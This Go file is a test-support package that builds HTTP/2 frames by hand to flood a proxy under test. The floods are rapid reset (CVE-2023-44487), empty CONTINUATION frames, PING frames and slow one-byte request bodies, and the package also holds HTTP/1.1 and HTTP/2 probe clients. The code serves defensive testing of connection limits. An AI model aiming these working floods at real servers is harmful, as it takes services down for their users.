// Package h2attack is test support for the listener's limits
// (internal/admission): a rapid-reset attacker that writes HTTP/2 frames by
// hand over raw TCP connections, probe clients that speak HTTP/1.1 or
// cleartext HTTP/2 from a chosen loopback address, raw HTTP/1.1
// connections (RawConn) and a wait for a condition (Eventually). It is a
// normal package so that the admission unit tests and the process-level
// tests share it; only tests import it.
//
// The attacker writes frames by hand: golang.org/x/net is not a dependency
// of this module (the standard library's HTTP/2 is not exported), and the
// few frames an attack needs (HEADERS with literal HPACK fields,
// RST_STREAM, CONTINUATION) take a few lines each. Every connection goes to
// the address it is given (the tests give loopback ones) and stops with
// its context.
package h2attack

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// Preface opens every HTTP/2 connection made with prior knowledge.
const Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// HTTP/2 frame types and flags (RFC 9113 section 6), and the error code
// of a cancelled stream.
const (
	FrameData         = 0x0
	FrameHeaders      = 0x1
	FrameRSTStream    = 0x3
	FrameSettings     = 0x4
	FramePing         = 0x6
	FrameContinuation = 0x9

	FlagEndStream  = 0x1
	FlagEndHeaders = 0x4

	ErrCodeCancel = 0x8
)

// WriteFrame appends one frame to w.
func WriteFrame(w *bufio.Writer, typ, flags byte, stream uint32, payload []byte) {
	var h [9]byte
	h[0], h[1], h[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	h[3], h[4] = typ, flags
	binary.BigEndian.PutUint32(h[5:], stream&0x7fffffff)
	w.Write(h[:])
	w.Write(payload)
}

// HPACKLiteral encodes header fields, given as name, value pairs, as
// literals without indexing, no Huffman coding (RFC 7541 section 6.2.2);
// every name and value must be shorter than 127 bytes.
func HPACKLiteral(fields ...string) []byte {
	var b []byte
	for i := 0; i+1 < len(fields); i += 2 {
		b = append(b, 0x00, byte(len(fields[i])))
		b = append(b, fields[i]...)
		b = append(b, byte(len(fields[i+1])))
		b = append(b, fields[i+1]...)
	}
	return b
}

// GetFields is a GET of path as HTTP/2 header fields, for HPACKLiteral.
func GetFields(path string) []string {
	return []string{":method", "GET", ":scheme", "http", ":path", path, ":authority", "proxy"}
}

// Flood is what an Attacker's connections send.
type Flood int

const (
	// RapidReset opens streams and resets them at once (CVE-2023-44487).
	RapidReset Flood = iota
	// Continuation opens a stream with a HEADERS frame that does not end
	// its header block, then sends empty CONTINUATION frames on it
	// (CVE-2024-27316's kind): frames that add nothing.
	Continuation
	// Ping sends PING frames and never opens a stream: each one asks the
	// server for an acknowledgement.
	Ping
	// SlowBody opens streams whose body (40,000 bytes announced) never
	// comes but a byte at a time: every Pause (50 ms if unset) it sends
	// one byte of DATA on each of its last 8 streams. With Hold set it
	// opens 8 streams at once and 8 new ones every Hold (the server cuts
	// the bodies meanwhile): 8 bodies under way a connection. Without, it
	// opens one more stream every Pause, as many as the server lets it.
	SlowBody
)

// Attacker opens HTTP/2 connections to Addr from the addresses From and,
// on each, sends its Flood (by default: opens streams and resets them at
// once), reconnecting whenever the proxy closes a connection. It stops
// when the context given to Run is done.
type Attacker struct {
	Addr  string
	From  []string // the addresses its connections come from, in turn
	Flood Flood
	// EndStream sends each HEADERS with END_STREAM (a request without a
	// body); otherwise the stream stays open for a body that never comes,
	// then is reset.
	EndStream bool
	// Pause, if set, is waited between streams (a slow reset).
	Pause time.Duration
	// Hold, for SlowBody, is how long each batch of 8 bodies is sent
	// before the next opens.
	Hold time.Duration
	// Pad is how many requests it completes (a GET the upstream answers)
	// for each stream it resets: the variant that pads its resets with
	// served requests so that they are not most of its streams.
	Pad int

	// Streams counts the streams it reset (Continuation, SlowBody: that
	// it opened), Frames the PING and CONTINUATION frames it wrote, Conns
	// the connections it opened.
	Streams, Frames, Conns atomic.Int64
}

// Run starts n connections at once (each reconnecting until ctx is done);
// wait on the returned group for them to end.
func (a *Attacker) Run(ctx context.Context, n int) *sync.WaitGroup {
	var wg sync.WaitGroup
	for i := range n {
		from := a.From[i%len(a.From)]
		wg.Go(func() {
			for ctx.Err() == nil {
				a.conn(ctx, from)
			}
		})
	}
	return &wg
}

// conn runs one connection until the proxy closes it or ctx is done.
func (a *Attacker) conn(ctx context.Context, from string) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 5 * time.Second}
	c, err := d.DialContext(ctx, "tcp", a.Addr)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return
	}
	a.Conns.Add(1)
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	done := make(chan struct{})
	go func() { io.Copy(io.Discard, c); close(done); c.Close() }()
	w := bufio.NewWriterSize(c, 64<<10)
	w.WriteString(Preface)
	WriteFrame(w, FrameSettings, 0, 0, nil)
	// flush writes what is buffered, and reports false once the
	// connection is closed (or ctx done).
	flush := func() bool {
		c.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if w.Flush() != nil {
			return false
		}
		select {
		case <-done:
			return false
		default:
			return true
		}
	}
	switch a.Flood {
	case Continuation, Ping:
		if a.Flood == Continuation {
			WriteFrame(w, FrameHeaders, FlagEndStream, 1, HPACKLiteral(GetFields("/orders/ORD-CONT/charges")...))
			a.Streams.Add(1)
		}
		var ping [8]byte
		for i := 1; ; i++ {
			if a.Flood == Continuation {
				WriteFrame(w, FrameContinuation, 0, 1, nil)
			} else {
				binary.BigEndian.PutUint64(ping[:], uint64(i))
				WriteFrame(w, FramePing, 0, 0, ping[:])
			}
			a.Frames.Add(1)
			if i%64 == 0 && !flush() {
				return
			}
		}
	case SlowBody:
		a.slowBodies(w, flush)
		return
	}
	hdr := HPACKLiteral(":method", "POST", ":scheme", "http", ":path", "/charges",
		":authority", "proxy", "content-type", "application/json", "content-length", "40")
	flags := byte(FlagEndHeaders)
	if a.EndStream {
		flags |= FlagEndStream
	}
	padHdr := HPACKLiteral(GetFields("/orders/ORD-PAD/charges")...)
	var rst [4]byte
	binary.BigEndian.PutUint32(rst[:], ErrCodeCancel)
	for id := uint32(1); id < 1<<30; id += 2 {
		WriteFrame(w, FrameHeaders, flags, id, hdr)
		WriteFrame(w, FrameRSTStream, 0, id, rst[:])
		a.Streams.Add(1)
		for range a.Pad {
			id += 2
			WriteFrame(w, FrameHeaders, FlagEndHeaders|FlagEndStream, id, padHdr)
		}
		if a.Pause > 0 || id%64 == 63 {
			c.SetWriteDeadline(time.Now().Add(5 * time.Second))
			if w.Flush() != nil {
				return
			}
		}
		if a.Pause > 0 {
			select {
			case <-time.After(a.Pause):
			case <-done:
				return
			}
		}
		select {
		case <-done:
			return
		default:
		}
	}
}

// slowBodies runs the SlowBody flood on a connection whose preface is
// in w, until flush reports it closed.
func (a *Attacker) slowBodies(w *bufio.Writer, flush func() bool) {
	const inFlight = 8
	pause := a.Pause
	if pause <= 0 {
		pause = 50 * time.Millisecond
	}
	hdr := HPACKLiteral(":method", "POST", ":scheme", "http", ":path", "/charges",
		":authority", "proxy", "content-type", "application/json", "content-length", "40000")
	var last uint32       // the last stream opened (client streams are odd)
	var batchAt time.Time // when the last batch opened (Hold)
	open := func() {
		if last == 0 {
			last = 1
		} else {
			last += 2
		}
		WriteFrame(w, FrameHeaders, FlagEndHeaders, last, hdr)
		a.Streams.Add(1)
	}
	for last < 1<<30 {
		switch {
		case a.Hold <= 0:
			open()
		case batchAt.IsZero() || time.Since(batchAt) >= a.Hold:
			for range inFlight {
				open()
			}
			batchAt = time.Now()
		}
		for k := uint32(0); k < inFlight && 2*k < last; k++ {
			WriteFrame(w, FrameData, 0, last-2*k, []byte{'{'})
		}
		if !flush() {
			return
		}
		time.Sleep(pause)
	}
}

// ProbeClients returns an HTTP/1.1 and a cleartext HTTP/2 (prior
// knowledge) client whose connections come from the address from. The
// HTTP/1.1 one opens a connection per request.
func ProbeClients(from string) (h1, h2 *http.Client) {
	dial := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 10 * time.Second}).DialContext
	var p1, p2 http.Protocols
	p1.SetHTTP1(true)
	p2.SetUnencryptedHTTP2(true)
	h1 = &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{Protocols: &p1, DialContext: dial, DisableKeepAlives: true}}
	h2 = &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{Protocols: &p2, DialContext: dial}}
	return h1, h2
}

// Result is an answer Do read, or the error that stopped it.
type Result struct {
	Status int
	Header http.Header
	Body   string
	Err    error
}

// Do sends one request with c (hdr: name, value pairs) and returns its
// answer and the protocol's major version (0 when none came).
func Do(c *http.Client, method, url, body string, hdr ...string) (Result, int) {
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		return Result{Err: err}, 0
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := c.Do(req)
	if err != nil {
		return Result{Err: err}, 0
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return Result{Status: resp.StatusCode, Header: resp.Header, Body: string(b), Err: err}, resp.ProtoMajor
}

// DialFrom connects to addr from the loopback address from (127.0.0.x),
// failing the test if it cannot; the connection is closed when the test
// ends.
func DialFrom(t testing.TB, from, addr string) net.Conn {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 10 * time.Second}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial from %s: %v", from, err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

// GetFrom sends GET path over HTTP/1.1 on a new connection from the
// address from, as a Kubernetes probe does (one request, then the
// connection is closed), and returns the status and body, or 0 with the
// error.
func GetFrom(t testing.TB, from, addr, path string) (int, string, error) {
	t.Helper()
	c := DialFrom(t, from, addr)
	c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: admin\r\nConnection: close\r\n\r\n", path); err != nil {
		return 0, "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, "", err
	}
	b, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	c.Close()
	return resp.StatusCode, string(b), err
}
